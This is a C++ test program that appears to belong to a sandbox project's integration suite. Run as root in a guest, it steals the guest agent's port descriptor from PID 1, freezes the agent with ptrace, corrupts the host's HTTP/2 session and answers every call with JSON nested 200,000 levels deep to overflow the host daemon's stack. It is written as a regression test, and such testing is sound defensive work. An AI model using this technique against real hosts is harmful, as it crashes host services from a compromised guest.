// space-hostile-agent: what guest root can do to the host's end of the agent port, as a test
// program (never part of an image). The integration test uploads it into a running sandbox and
// starts it as root. It then takes the agent's place on the port the way an attacker would:
//   1. takes a copy of the real agent's port descriptor (pidfd_getfd on PID 1),
//   2. stops the real agent (PTRACE_SEIZE + PTRACE_INTERRUPT: a ptrace stop holds even PID 1),
//   3. writes junk on the port, which ends the host's HTTP/2 session,
//   4. serves the host's next connection with the agent's own channel code and a router that
//      answers every call with JSON nested `--depth` levels deep (default 200,000: the depth
//      that overflowed spaced's stack when it copied or dumped such an answer).
// The handshake answer itself is well formed, so the host gets as far as its calls.
#include <fcntl.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <sys/ptrace.h>
#include <sys/signalfd.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstring>
#include <filesystem>
#include <string>

#include "agent/channel.h"
#include "agent/event_loop.h"
#include "agent/guest_init.h"

namespace {

using namespace space::agent;

int depth = 200000;
int delay_ms = 2000;

[[noreturn]] void die(const std::string& what) {
  fprintf(stderr, "space-hostile-agent: %s: %s\n", what.c_str(), strerror(errno));
  exit(1);
}

// Built by moving, level by level: copying would make it quadratic.
Json nested(int levels) {
  Json value = Json::array();
  for (int i = 0; i < levels; ++i) {
    Json outer = Json::array();
    outer.push_back(std::move(value));
    value = std::move(outer);
  }
  return value;
}

int stealPortFromPid1() {
  const std::string port = findVirtioPort("space.agent");
  if (port.empty()) die("no port named space.agent");
  int target = -1;
  for (const auto& entry : std::filesystem::directory_iterator("/proc/1/fd")) {
    std::error_code ec;
    if (std::filesystem::read_symlink(entry.path(), ec) == port && !ec) target = std::stoi(entry.path().filename());
  }
  if (target < 0) die("PID 1 does not hold " + port);
  const int pidfd = static_cast<int>(syscall(SYS_pidfd_open, 1, 0));
  if (pidfd < 0) die("pidfd_open(1)");
  const int fd = static_cast<int>(syscall(SYS_pidfd_getfd, pidfd, target, 0));
  if (fd < 0) die("pidfd_getfd");
  close(pidfd);
  return fd;
}

void stopPid1() {
  if (ptrace(PTRACE_SEIZE, 1, nullptr, nullptr) != 0) die("PTRACE_SEIZE 1");
  if (ptrace(PTRACE_INTERRUPT, 1, nullptr, nullptr) != 0) die("PTRACE_INTERRUPT 1");
  int status = 0;
  if (waitpid(1, &status, __WALL) != 1 || !WIFSTOPPED(status)) die("waiting for PID 1 to stop");
}

void writeJunk(int fd) {
  // More than any frame the host may be in the middle of: whatever it was reading, the bytes
  // that follow are no HTTP/2 it accepts.
  const std::string junk(256 << 10, '\xff');
  size_t off = 0;
  while (off < junk.size()) {
    ssize_t n = write(fd, junk.data() + off, junk.size() - off);
    if (n > 0) {
      off += static_cast<size_t>(n);
    } else if (n < 0 && errno == EAGAIN) {
      pollfd p{fd, POLLOUT, 0};
      if (poll(&p, 1, 1000) == 0) return;  // the host stopped reading: it has had enough
    } else if (n < 0 && errno != EINTR) {
      return;  // the host left already
    }
  }
}

void* serve(void*) {
  usleep(static_cast<useconds_t>(delay_ms) * 1000);  // lets the exec that started us answer first
  const int port = stealPortFromPid1();
  stopPid1();
  fprintf(stderr, "space-hostile-agent: PID 1 stopped; serving its port, nesting %d deep\n", depth);
  writeJunk(port);

  sigset_t mask;
  sigemptyset(&mask);
  sigaddset(&mask, SIGIO);  // blocked in every thread since main()
  const int sfd = signalfd(-1, &mask, SFD_NONBLOCK | SFD_CLOEXEC);
  // The port's attach and detach signals now come here, not to the stopped agent.
  fcntl(port, F_SETOWN, getpid());

  EventLoop loop;
  Router router;
  const Json deep = Json{{"entries", nested(depth)}, {"processes", nested(8)}};
  for (const char* method :
       {"/filesystem.Filesystem/ListDir", "/filesystem.Filesystem/Stat", "/filesystem.Filesystem/MakeDir",
        "/filesystem.Filesystem/Move", "/filesystem.Filesystem/Remove", "/process.Process/List",
        "/process.Process/SendInput", "/process.Process/SendSignal", "/agent.Agent/Stats", "/agent.Agent/Configure",
        "/agent.Agent/Info"}) {
    router.unary(method, [&deep](const Json&, const CallContext&) -> UnaryResult { return deep; });
  }
  router.serverStream("/process.Process/Start",
                      [&deep](const Json&, const CallContext&, std::shared_ptr<ServerStream> stream) {
                        stream->send(Json{{"event", {{"start", {{"pid", 4242}}}}}});
                        stream->send(Json{{"event", deep}});
                        stream->finish();
                      });
  Channel channel(loop, router, [] {
    return Json{{"version", "hostile"}, {"kernel", "6.1.0-space"}, {"hostname", "hostile"}, {"uptime", 1.0}};
  });
  channel.adopt(port, true);
  loop.addFd(sfd, EPOLLIN, [&](uint32_t) {
    signalfd_siginfo si{};
    while (read(sfd, &si, sizeof si) == sizeof si) channel.poke();
  });
  loop.run();
  return nullptr;
}

}  // namespace

int main(int argc, char** argv) {
  for (int i = 1; i < argc; ++i) {
    const std::string a = argv[i];
    if (a == "--depth" && i + 1 < argc) {
      depth = std::stoi(argv[++i]);
    } else if (a == "--delay-ms" && i + 1 < argc) {
      delay_ms = std::stoi(argv[++i]);
    } else {
      printf(
          "usage: space-hostile-agent [--depth LEVELS] [--delay-ms MS]\n"
          "Test program, run as root inside a SPACE guest: after MS milliseconds (default 2000)\n"
          "it stops the real agent and answers the host's calls with JSON nested LEVELS deep\n"
          "(default 200000).\n");
      return a == "--help" ? 0 : 2;
    }
  }
  signal(SIGPIPE, SIG_IGN);
  sigset_t mask;
  sigemptyset(&mask);
  sigaddset(&mask, SIGIO);  // its default action ends the process
  sigprocmask(SIG_BLOCK, &mask, nullptr);
  // Serialising the deep answer recurses once per level: a thread whose stack holds that.
  pthread_attr_t attr;
  pthread_attr_init(&attr);
  pthread_attr_setstacksize(&attr, 128ul << 20);
  pthread_t thread;
  if (pthread_create(&thread, &attr, serve, nullptr) != 0) die("pthread_create");
  pthread_join(thread, nullptr);
  return 0;
}
